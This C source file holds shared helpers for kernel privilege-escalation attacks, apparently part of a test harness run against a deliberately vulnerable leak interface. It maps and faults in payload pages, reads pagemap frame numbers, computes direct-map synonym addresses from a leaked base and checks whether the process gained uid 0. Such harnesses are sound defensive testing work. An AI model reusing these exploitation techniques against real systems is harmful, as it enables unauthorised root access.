/* What every attack needs: the leak, pages, their synonyms, and a voice. */
#include "attack.h"

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

void attack_say(const char *format, ...)
{
	va_list arguments;

	va_start(arguments, format);
	fputs("  ", stdout);
	vprintf(format, arguments);
	putchar('\n');
	va_end(arguments);
	/* The next thing may be the end of this process. */
	fflush(stdout);
}

void attack_skip(const char *reason)
{
	attack_say("skipped: %s", reason);
	exit(ATTACK_EXIT_SKIP);
}

void attack_check(const char *call, long status)
{
	if (status == -ENOSYS || status == -EPERM) {
		attack_say("%s: refused (%s)", call, strerror((int)-status));
		exit(ATTACK_EXIT_DENIED);
	}
}

int attack_finish(void)
{
	if (getuid() == 0) {
		attack_say("uid is now 0");
	} else {
		attack_say("came back, and uid is still %d", (int)getuid());
	}
	return 0;
}

void attack_leak(struct bw_leak *leak)
{
	long status = bw_vuln_leak(leak);

	attack_check("vuln_leak", status);
	if (status < 0) {
		attack_skip("the leak told nothing");
	}
}

static void *map_present(size_t nr_bytes, int extra_flags, const char *complaint)
{
	void *start = mmap(NULL, nr_bytes, PROT_READ | PROT_WRITE,
			   MAP_PRIVATE | MAP_ANONYMOUS | extra_flags, -1, 0);

	if (start == MAP_FAILED) {
		attack_skip(complaint);
	}
	for (size_t offset = 0; offset < nr_bytes; offset += BW_PAGE_SIZE) {
		((volatile char *)start)[offset] = 0;
	}
	return start;
}

void *attack_pages(size_t nr_bytes)
{
	return map_present(nr_bytes, 0, "no memory for the payload");
}

void *attack_huge_page(void)
{
	return map_present(BW_HUGE_PAGE_SIZE, MAP_HUGETLB, "no 2 MiB page to be had");
}

void attack_settle(void)
{
	const struct timespec moment = { .tv_nsec = 1000 * 1000 };

	nanosleep(&moment, NULL);
}

void attack_have_witnessed(void)
{
	pid_t child = vfork();

	if (child == 0) {
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

uint64_t attack_pfn(const void *address)
{
	uint64_t pfn = 0;
	uintptr_t page = (uintptr_t)address & -(uintptr_t)BW_PAGE_SIZE;

	if (bw_pagemap((const void *)page, &pfn) < 0) {
		attack_skip("pagemap does not know the payload's frame");
	}
	return pfn;
}

uint64_t attack_synonym(const struct bw_leak *leak, const void *address)
{
	uint64_t offset = (uintptr_t)address % BW_PAGE_SIZE;

	return leak->direct_map_base + attack_pfn(address) * BW_PAGE_SIZE + offset;
}
